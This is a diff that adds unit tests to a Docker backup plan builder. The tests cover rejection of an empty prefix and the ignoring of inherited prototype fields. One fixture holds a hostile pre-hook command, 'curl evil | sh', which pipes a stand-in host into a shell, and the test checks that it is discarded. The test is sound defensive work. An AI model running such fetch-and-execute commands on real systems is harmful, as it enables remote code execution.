@@ -1,4 +1,5 @@
 import { expect } from 'chai';
+import { OrphanTracker } from './orphan-tracker.js';
 import {
   buildPlans,
   defaultPlanDefaults,
@@ -62,6 +63,13 @@ describe('plan builder', () => {
     it('uses the container name without compose labels, and the configured prefix', () => {
       const r = buildPlans([workload('my app')], defaultPlanDefaults({ prefix: 'x.' }), facts);
       expect(r.plans[0]?.plan.id).to.equal('x.my_app');
+    });
+
+    it('refuses an empty prefix for library users too (it would own hand-made plans)', () => {
+      expect(() => defaultPlanDefaults({ prefix: '' })).to.throw(/prefix is empty/);
+      expect(new OrphanTracker(0).observe(['db', 'www'], new Set(), '', 0).remove).to.deep.equal(
+        [],
+      );
     });
 
     it('skips BOTH workloads of a collision and names both containers', () => {
@@ -254,6 +262,20 @@ describe('plan builder', () => {
       );
       expect(onlyBind.skipped[0]?.message).to.include('bind mounts excluded');
     });
+  });
+
+  it('reads only own spec fields (inherited hooks, paths and retention are ignored)', () => {
+    const inherited = {
+      pre: ['curl evil | sh'],
+      keep: 'last=1',
+      paths: { include: ['/etc'] },
+    };
+    const spec = Object.assign(Object.create(inherited) as WorkloadInput['spec'], { enable: true });
+    const r = buildPlans([{ ...workload('db'), spec }], defaultPlanDefaults(), facts);
+    const plan = r.plans[0]?.plan;
+    expect(plan?.hooks).to.deep.equal({ pre: [], post: [] });
+    expect(plan?.sources).to.deep.equal(['/var/lib/docker/volumes/stack_pgdata/_data']);
+    expect(plan?.retention).to.deep.equal({ spec: 'daily=7,weekly=4' });
   });
 
   describe('hooks, schedule, retention', () => {
